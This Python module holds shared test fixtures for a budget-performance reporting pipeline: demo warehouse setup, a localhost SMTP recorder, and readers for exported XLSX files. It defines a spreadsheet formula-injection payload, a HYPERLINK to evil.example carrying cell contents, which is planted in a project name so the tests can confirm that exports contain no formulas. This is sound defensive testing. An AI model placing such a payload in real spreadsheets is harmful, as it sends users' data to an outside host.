"""Shared pieces of the publish tests: a built warehouse of the calibrated demo year, a
real SMTP server (aiosmtpd) on localhost, and readers of what it received.

Names live here, not in conftest.py: test modules import this module by name.
"""

from __future__ import annotations

import csv
import datetime as dt
import email
import hashlib
import io
import json
import socket
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from decimal import Decimal
from email.message import EmailMessage
from email.policy import default as default_policy
from pathlib import Path
from typing import Any

import psycopg
from aiosmtpd.controller import Controller

from budgetperf.pipeline.context import RunContext
from budgetperf.settings import Settings, load_settings
from budgetperf.transform import run_dbt
from budgetperf.warehouse.migrate import migrate
from budgetperf.warehouse.roles import role_url

POINTS = [dt.date(2021, 6, 30), dt.date(2021, 9, 30), dt.date(2021, 11, 30), dt.date(2021, 12, 31)]
JUNE, SEPTEMBER, NOVEMBER, YEAR_END = POINTS
OFFICE = "jixiao@czj.pingluo.example"
SENDER = "budgetperf@czj.pingluo.example"
MALICIOUS_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


# -- the warehouse -------------------------------------------------------------------------


@dataclass(frozen=True)
class DemoYear:
    template_url: str  # never connect to it from a test: copies are made from it
    tweaks: dict[str, str]
    landing: Path


def settings_for(home: Path) -> Settings:
    """Settings of an installation at ``home`` (no process environment involved)."""
    return load_settings(
        {
            "BUDGETPERF_HOME": str(home),
            "BUDGETPERF_PERFORMANCE_OFFICE_EMAIL": OFFICE,
            "BUDGETPERF_SENDER_EMAIL": SENDER,
        }
    )


def load_landing(url: str, landing: Path, as_of: dt.date | None = None) -> None:
    """The platform's loader, as the loader role, like the DAG's load task."""
    from budgetperf.ingest.loader import load_landing as load

    report = load(role_url(url, "loader"), landing, as_of=as_of)
    rejected = [f for f in report.files if f.status == "rejected"]
    assert not rejected, [(f.file_path, f.reason) for f in rejected]


def register_points(url: str, points: list[dt.date]) -> None:
    with psycopg.connect(url) as conn:
        for point in points:
            conn.execute(
                """
                insert into ops.checkpoint_runs (checkpoint_date, fiscal_year) values (%s, %s)
                on conflict (checkpoint_date) do nothing
                """,
                (point, point.year),
            )


def build(url: str, home: Path, select: str | None = None, *, full_refresh: bool = False) -> None:
    """The marts, built as the transformer role like the DAG's build task, without dbt's
    own data and unit tests (they have their own suite and would double the time of
    every build here); ``select`` rebuilds only what depends on a changed source;
    ``full_refresh`` rebuilds incremental models whole."""
    args = ["build", "--exclude-resource-type", "test", "--exclude-resource-type", "unit_test"]
    if select:
        args += ["--select", select]
    if full_refresh:
        args.append("--full-refresh")
    run_dbt(settings_for(home), role_url(url, "transformer"), args, echo=False)


def needing_department(url: str, point: dt.date, nth: int = 0) -> dict[str, Any]:
    """The nth department (by code) with projects needing correction at the point."""
    with psycopg.connect(url) as conn:
        cursor = conn.execute(
            """
            select department_code, department_name, contact_email
            from marts.rpt_department_progress
            where checkpoint_date = %s and projects_needing_correction > 0
            order by department_code offset %s limit 1
            """,
            (point, nth),
        )
        names = [c.name for c in cursor.description or []]
        row = cursor.fetchone()
    assert row is not None
    return dict(zip(names, row, strict=True))


def tweak_raw(url: str) -> dict[str, str]:
    """Make the demo data carry what the tests need, in the raw layer (before dbt):
    one department without a contact email, and a project named like a formula that
    needs correction at 06-30, is a prior project of a 2022 request and has a published
    target. Returns the codes chosen."""
    with psycopg.connect(url) as conn:
        project = conn.execute(
            """
            with june as (
                select p.project_code, p.department_code
                from raw.effective_projects as p
                inner join raw.effective_budget_execution as e
                    on e.checkpoint_date = p.checkpoint_date and e.project_code = p.project_code
                where p.checkpoint_date = '2021-06-30' and p.fiscal_year = 2021
                  and p.budget_amount_yuan > 0
                group by p.project_code, p.department_code, p.budget_amount_yuan
                having sum(e.amount_yuan) / p.budget_amount_yuan < 0.3
            )
            select june.project_code, june.department_code from june
            where exists (
                select from raw.budget_requests as r where r.prior_project_code = june.project_code
            )
            and not exists (
                select from raw.performance_targets as t
                where t.project_code = june.project_code and t.fiscal_year = 2021
                  and not t.is_published
            )
            order by june.project_code limit 1
            """
        ).fetchone()
        assert project is not None, "no lagging project with a request and published targets"
        conn.execute(
            "update raw.projects set project_name = %s "
            "where project_code = %s and fiscal_year = 2021",
            (MALICIOUS_NAME, project[0]),
        )
        # a department needing correction at 06-30, other than the malicious one's
        silent = conn.execute(
            """
            select p.department_code
            from raw.effective_projects as p
            inner join raw.effective_budget_execution as e
                on e.checkpoint_date = p.checkpoint_date and e.project_code = p.project_code
            where p.checkpoint_date = '2021-06-30' and p.fiscal_year = 2021
              and p.budget_amount_yuan > 0 and p.department_code <> %s
            group by p.project_code, p.department_code, p.budget_amount_yuan
            having sum(e.amount_yuan) / p.budget_amount_yuan < 0.3
            order by p.department_code desc limit 1
            """,
            (project[1],),
        ).fetchone()
        assert silent is not None
        conn.execute(
            "update raw.departments set contact_email = null where department_code = %s",
            (silent[0],),
        )
    return {
        "malicious_project": project[0],
        "malicious_department": project[1],
        "department_without_contact": silent[0],
    }


def correct_payment(
    url: str, landing: Path, as_of: dt.date, project_code: str, delta: Decimal
) -> str:
    """The integration system re-exports ``budget_execution`` of the delivery ``as_of``
    with one payment of the project changed by ``delta`` (and its manifest entry), and
    the loader loads it: the corrected file supersedes the first (DATA_CONTRACT.md 1).
    Returns the record_id changed."""
    folder = landing / as_of.strftime("%Y%m%d")
    path = folder / "budget_execution.csv"
    data = path.read_bytes()
    encoding = "utf-8-sig" if data.startswith(b"\xef\xbb\xbf") else "utf-8"
    try:
        text = data.decode(encoding)
    except UnicodeDecodeError:
        encoding, text = "gb18030", data.decode("gb18030")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header_at = next(i for i, r in enumerate(rows) if "支付金额(元)" in r or "amount_yuan" in r)
    header = rows[header_at]
    amount = header.index("支付金额(元)" if "支付金额(元)" in header else "amount_yuan")
    project = header.index("项目编码" if "项目编码" in header else "project_code")
    date = header.index("支付日期" if "支付日期" in header else "payment_date")
    record = header.index("支付流水号" if "支付流水号" in header else "record_id")
    target = next(
        r
        for r in rows[header_at + 1 :]
        if len(r) > amount and r[project] == project_code and r[date]
    )
    old = Decimal(target[amount].replace(",", ""))
    target[amount] = format(old + delta, "f")
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    corrected = out.getvalue().encode(encoding)
    path.write_bytes(corrected)
    manifest_path = folder / "_manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    entry = manifest["files"]["budget_execution.csv"]
    entry["sha256"] = hashlib.sha256(corrected).hexdigest()
    entry["amount_yuan_total"] = format(Decimal(entry["amount_yuan_total"]) + delta, "f")
    manifest_path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2), encoding="utf-8")
    load_landing(url, landing, as_of=as_of)
    return target[record]


def clone_database(server_url: str, template_url: str, name: str) -> str:
    """A copy of a built warehouse (CREATE DATABASE ... TEMPLATE): a second dbt build
    costs 15 s, a copy well under one."""
    from urllib.parse import urlsplit, urlunsplit

    template = urlsplit(template_url).path.lstrip("/")
    with psycopg.connect(server_url, autocommit=True) as conn:
        conn.execute(f'create database "{name}" template "{template}"')
    url = urlunsplit(urlsplit(server_url)._replace(path="/" + name))
    migrate(url)  # CONNECT on a database is not copied with it: grants again
    return url


def run_context(url: str, home: Path, point: dt.date, run_id: str | None = None) -> RunContext:
    """The publish steps' context: connected as the publisher role, as in the DAG."""
    return RunContext(
        point,
        run_id or f"test__{point.isoformat()}",
        role_url(url, "publisher"),
        settings_for(home),
    )


def query(url: str, sql: str, params: Any = ()) -> list[dict[str, Any]]:
    with psycopg.connect(url) as conn:
        cursor = conn.execute(sql, params)
        names = [c.name for c in cursor.description or []]
        return [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]


# -- the SMTP server -----------------------------------------------------------------------


@dataclass
class Received:
    mail_from: str
    rcpt_tos: list[str]
    raw: bytes

    @property
    def message(self) -> EmailMessage:
        parsed = email.message_from_bytes(self.raw, policy=default_policy)
        assert isinstance(parsed, EmailMessage)
        return parsed

    @property
    def subject(self) -> str:
        return str(self.message["Subject"])

    @property
    def message_id(self) -> str:
        return str(self.message["Message-ID"])

    def text(self) -> str:
        part = self.message.get_body(preferencelist=("plain",))
        assert part is not None
        return str(part.get_content())

    def html(self) -> str:
        part = self.message.get_body(preferencelist=("html",))
        assert part is not None
        return str(part.get_content())

    def attachments(self) -> dict[str, bytes]:
        return {
            str(part.get_filename()): bytes(part.get_content())
            for part in self.message.iter_attachments()
        }


@dataclass
class Recorder:
    """An aiosmtpd handler that keeps every accepted message, and can be told to answer
    "try later" (4xx) after some messages or to refuse a recipient for good (5xx)."""

    messages: list[Received] = field(default_factory=list)
    accept_limit: int | None = None
    refused: set[str] = field(default_factory=set)
    lock: threading.Lock = field(default_factory=threading.Lock)

    async def handle_RCPT(
        self, server: Any, session: Any, envelope: Any, address: str, rcpt_options: Any
    ) -> str:
        if address in self.refused:
            return "550 5.1.1 mailbox unavailable"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        with self.lock:
            if self.accept_limit is not None and len(self.messages) >= self.accept_limit:
                return "451 4.3.0 mailbox busy, try again later"
            self.messages.append(
                Received(envelope.mail_from, list(envelope.rcpt_tos), bytes(envelope.content))
            )
        return "250 2.0.0 accepted"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


class SmtpServer:
    """A real SMTP server on localhost that can be stopped and started on its port."""

    def __init__(self, port: int | None = None) -> None:
        self.port = port or free_port()
        self.recorder = Recorder()
        self._controller: Controller | None = None

    def start(self) -> SmtpServer:
        self._controller = Controller(self.recorder, hostname="127.0.0.1", port=self.port)
        self._controller.start()
        return self

    def stop(self) -> None:
        if self._controller is not None:
            self._controller.stop()
            self._controller = None

    @property
    def messages(self) -> list[Received]:
        return self.recorder.messages

    def airflow_connection(self) -> str:
        """AIRFLOW_CONN_SMTP_DEFAULT for this server: plain SMTP, one quick retry."""
        return json.dumps(
            {
                "conn_type": "smtp",
                "host": "127.0.0.1",
                "port": self.port,
                "extra": {
                    "disable_tls": True,
                    "disable_ssl": True,
                    "timeout": 5,
                    "retry_limit": 1,
                    "retry_delay": 0,
                },
            }
        )


@contextmanager
def smtp_server() -> Iterator[SmtpServer]:
    server = SmtpServer().start()
    try:
        yield server
    finally:
        server.stop()


# -- reading exports -----------------------------------------------------------------------


def xlsx_formula_cells(data: bytes) -> list[str]:
    """Every formula (``<f>``) in any sheet of an XLSX file."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    return found


def sheet_rows(data: bytes, sheet: int = 0) -> list[list[Any]]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    worksheet = workbook.worksheets[sheet]
    return [[cell.value for cell in row] for row in worksheet.iter_rows()]


def wan(yuan: Decimal) -> Decimal:
    """The test's own 万元 rounding (half away from zero), to compare with what we print."""
    from decimal import ROUND_HALF_UP

    return (Decimal(yuan) / 10000).quantize(Decimal("0.01"), ROUND_HALF_UP)
